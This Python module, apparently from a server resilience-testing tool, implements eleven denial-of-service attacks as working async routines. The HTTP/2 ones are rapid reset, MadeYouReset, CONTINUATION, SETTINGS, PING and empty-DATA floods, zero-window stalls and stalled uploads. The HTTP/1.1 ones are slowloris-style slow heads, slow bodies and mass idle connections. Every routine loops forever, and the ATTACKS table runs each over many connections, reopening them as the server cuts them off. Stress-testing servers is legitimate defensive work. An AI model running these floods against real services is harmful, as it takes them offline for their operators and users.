"""The attacks. A further one is a function that assaults a connection for ever, and one more entry of ATTACKS."""

from __future__ import annotations

import itertools
from collections.abc import Awaitable, Callable
from dataclasses import dataclass

from . import frames
from .answers import Answers, Http1Answers, Http2Answers
from .wire import Wire

FUNCTION = "/api-key"
"""A path whose answer comes from a function; uploads to it are held whole before the call."""
LARGE = "/large"
"""A path whose answer is large."""
_BATCH = 64
_BATCH_PAUSE_SECONDS = 0.001
_STREAMS = 100
_BODY_BYTES = 1_000_000
_STALLED_BYTES = 16_000
_SLOW_PAUSE_SECONDS = 0.1
_GET = frames.block("GET", FUNCTION)
_GET_LARGE = frames.block("GET", LARGE)
_POST = frames.block("POST", FUNCTION, ("content-length", str(_BODY_BYTES)))
_HEAD = f"POST {FUNCTION} HTTP/1.1\r\nHost: {frames.AUTHORITY}\r\n".encode()


async def _flood(wire: Wire, batch: bytes) -> None:
    """Send the same frames over and over."""
    while True:
        await wire.send(batch, _BATCH, pause_seconds=_BATCH_PAUSE_SECONDS)


async def _flood_streams(wire: Wire, batch: Callable[[range, bytes], bytes]) -> None:
    """Send two frames on one new stream after the other."""
    await wire.send(frames.greeting(), 2)
    for first in itertools.count(1, _BATCH):
        streams = range(first, first + _BATCH, 2)
        await wire.send(batch(streams, _GET), _BATCH, pause_seconds=_BATCH_PAUSE_SECONDS)


async def rapid_reset(wire: Wire) -> None:
    await _flood_streams(wire, frames.cancelled)


async def made_you_reset(wire: Wire) -> None:
    await _flood_streams(wire, frames.overrun)


async def continuation_flood(wire: Wire) -> None:
    await wire.send(frames.greeting() + frames.headers(1, _GET, ends=True, whole=False), 3)
    await _flood(wire, frames.continuations(1, _BATCH))


async def settings_flood(wire: Wire) -> None:
    await wire.send(frames.greeting(), 2)
    await _flood(wire, frames.settings(_BATCH))


async def ping_flood(wire: Wire) -> None:
    await wire.send(frames.greeting(), 2)
    await _flood(wire, frames.pings(_BATCH))


async def empty_data_flood(wire: Wire) -> None:
    await wire.send(frames.greeting() + frames.headers(1, _POST, ends=False), 3)
    await _flood(wire, frames.empty_data(1, _BATCH))


async def zero_window(wire: Wire) -> None:
    """Ask for as many large answers at once as may be, and take nothing of them."""
    await wire.send(frames.greeting(initial_window=0), 2)
    for turn in itertools.count():
        await wire.send(b"".join(frames.headers(stream, _GET_LARGE, ends=True) for stream in _turn(turn)), _STREAMS)
        await wire.until_over((turn + 1) * _STREAMS)


async def stalled_bodies(wire: Wire) -> None:
    """Begin as many uploads at once as may be, and leave them."""
    await wire.send(frames.greeting(), 2)
    for turn in itertools.count():
        for stream in _turn(turn):
            upload = frames.headers(stream, _POST, ends=False) + frames.data(stream, bytes(_STALLED_BYTES))
            await wire.send(upload, 2)
        await wire.until_over((turn + 1) * _STREAMS)


async def slow_bodies(wire: Wire) -> None:
    """Send an upload at half the rate that is asked for."""
    await wire.send(_HEAD + f"Content-Length: {_BODY_BYTES}\r\n\r\n".encode())
    while True:
        await wire.send(b"x" * 10, pause_seconds=_SLOW_PAUSE_SECONDS)


async def slow_heads(wire: Wire) -> None:
    """Send a head that does not end, a field at a time."""
    await wire.send(_HEAD)
    while True:
        await wire.send(b"x: x\r\n", pause_seconds=_SLOW_PAUSE_SECONDS)


async def idle_connections(wire: Wire) -> None:
    await wire.until_cut()


def _turn(turn: int) -> range:
    """Return the streams of one turn."""
    first = 1 + turn * 2 * _STREAMS
    return range(first, first + 2 * _STREAMS, 2)


@dataclass(frozen=True, slots=True, kw_only=True)
class Attack:
    """Some `connections` at once, each assaulted until the server cuts it off, then, after a pause, opened anew."""

    name: str
    summary: str
    assault: Callable[[Wire], Awaitable[None]]
    connections: int = 4
    pause_seconds: float = 0.02
    answers: Callable[[], Answers] = Http2Answers


ATTACKS = (
    Attack(name="rapid-reset", summary="requests that are reset at once", assault=rapid_reset),
    Attack(name="made-you-reset", summary="requests that the server is made to reset", assault=made_you_reset),
    Attack(name="continuation", summary="a header block that does not end", assault=continuation_flood),
    Attack(name="settings", summary="SETTINGS, each to be acknowledged", assault=settings_flood),
    Attack(name="ping", summary="PINGs, each to be answered", assault=ping_flood),
    Attack(name="empty-data", summary="an upload of empty DATA frames", assault=empty_data_flood),
    Attack(
        name="zero-window",
        summary="100 answers of 8 MiB at once a connection, nothing of them taken",
        assault=zero_window,
    ),
    Attack(
        name="stalled-bodies", summary="100 uploads at once a connection that stop after 16 kB", assault=stalled_bodies
    ),
    Attack(
        name="slow-bodies",
        summary="uploads of 100 bytes a second over HTTP/1.1",
        assault=slow_bodies,
        connections=200,
        answers=Http1Answers,
    ),
    Attack(
        name="slow-heads",
        summary="heads that do not end, ten fields a second over HTTP/1.1",
        assault=slow_heads,
        connections=200,
        answers=Http1Answers,
    ),
    Attack(
        name="idle",
        summary="connections on which nothing is sent",
        assault=idle_connections,
        connections=1500,
        pause_seconds=0.5,
        answers=Http1Answers,
    ),
)
